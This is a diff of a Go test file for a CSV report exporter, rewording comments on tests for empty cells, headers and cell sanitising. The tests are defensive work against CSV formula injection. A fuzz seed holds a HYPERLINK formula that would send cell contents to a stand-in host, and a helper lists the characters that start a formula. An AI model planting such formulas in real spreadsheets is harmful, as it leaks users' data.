@@ -15,8 +15,8 @@ import (
 	"github.com/google/go-cmp/cmp"
 )
 
-// labelled is a device with all that its owners know of it, tried twice, one finding of
-// which nobody wants to hear.
+// labelled returns a device with everything its owners know about it, examined in two tries,
+// with one suppressed finding.
 func labelled(e report.Examined, slot string, asset ...device.Field) report.Examined {
 	e.Snapshot.Device.Serial = device.Known("F2L" + slot)
 	e.Snapshot.Labels = device.Labels{Location: 0x14120000, Slot: slot, Asset: asset}
@@ -28,10 +28,10 @@ func labelled(e report.Examined, slot string, asset ...device.Field) report.Exam
 	return e
 }
 
-// tableRows reads a CSV file as a list of rows by their heads.
+// tableRows parses a CSV file into rows keyed by header.
 func tableRows(t testing.TB, text string) []map[string]string {
 	t.Helper()
-	records, err := csv.NewReader(strings.NewReader(text)).ReadAll() // holds all rows to one length
+	records, err := csv.NewReader(strings.NewReader(text)).ReadAll() // requires all rows to have the same length
 	if err != nil {
 		t.Fatalf("%v in\n%s", err, text)
 	}
@@ -65,7 +65,7 @@ func csvFindingsOf(r report.Report) string {
 	return out.String()
 }
 
-// columnsOf keeps the columns that a test is about.
+// columnsOf keeps only the given columns.
 func columnsOf(row map[string]string, heads ...string) map[string]string {
 	kept := map[string]string{}
 	for _, head := range heads {
@@ -100,7 +100,7 @@ func TestCSVTellsADeviceInOneRow(t *testing.T) {
 	}
 }
 
-// What is not known stays empty: a spreadsheet would count a 0.
+// Unknown values stay empty: a spreadsheet would count a 0.
 func TestCSVLeavesTheUnknownEmpty(t *testing.T) {
 	row := tableRows(t, csvOf(report.New(reporttest.Run(reporttest.Unexamined("x")))))[0]
 	want := map[string]string{"verdict": "not-examined", "reason": "trust-pending", "lastBackup": "", "daysSinceBackup": "", "noLastBackup": "not-asked"}
@@ -165,7 +165,7 @@ func TestCSVFindingsKeepTheOrderOfTheReport(t *testing.T) {
 	}
 }
 
-// A file without a row still has its header, so that a script finds its columns.
+// A file without rows still has its header, so that scripts find the columns.
 func TestCSVWithoutADeviceIsItsHeader(t *testing.T) {
 	r := report.New(report.Run{Gaps: []device.Gap{{Reason: device.Unreachable}}})
 	for _, text := range []string{csvOf(r), csvFindingsOf(r)} {
@@ -175,7 +175,7 @@ func TestCSVWithoutADeviceIsItsHeader(t *testing.T) {
 	}
 }
 
-// A run that was cut short says so on every row: a file may be all that is left of it.
+// A partial run says so on every row, because the file may be all that is left of it.
 func TestCSVTellsThatARunIsPartialOrRedacted(t *testing.T) {
 	run := reporttest.Run(reporttest.Well("iPhone 1"))
 	run.Redacted, run.Gaps = true, []device.Gap{{Reason: device.Interrupted}}
@@ -233,7 +233,7 @@ func TestCSVCellsAreCleanAndNumbersStay(t *testing.T) {
 	}
 }
 
-// beginsFormula is the rule of OWASP for the beginning of a cell, in its own words.
+// beginsFormula implements OWASP's rule for cells, independently of the code under test.
 func beginsFormula(cell string) bool {
 	if cell == "" || signedNumber.MatchString(cell) {
 		return false
@@ -242,8 +242,8 @@ func beginsFormula(cell string) bool {
 	return slices.Contains([]rune{'=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'}, first)
 }
 
-// FuzzCSV reads the file with a comma, and as a spreadsheet does where the comma is the
-// decimal sign.
+// FuzzCSV parses the file with commas, and with semicolons as a spreadsheet does where the
+// comma is the decimal separator.
 func FuzzCSV(f *testing.F) {
 	f.Add("=HYPERLINK(\"http://example.com/\"&A1)", "a\",\"=1+1\r\n=2")
 	f.Add("x;\"=1+1", "'=1;+1; -1;\t@a")
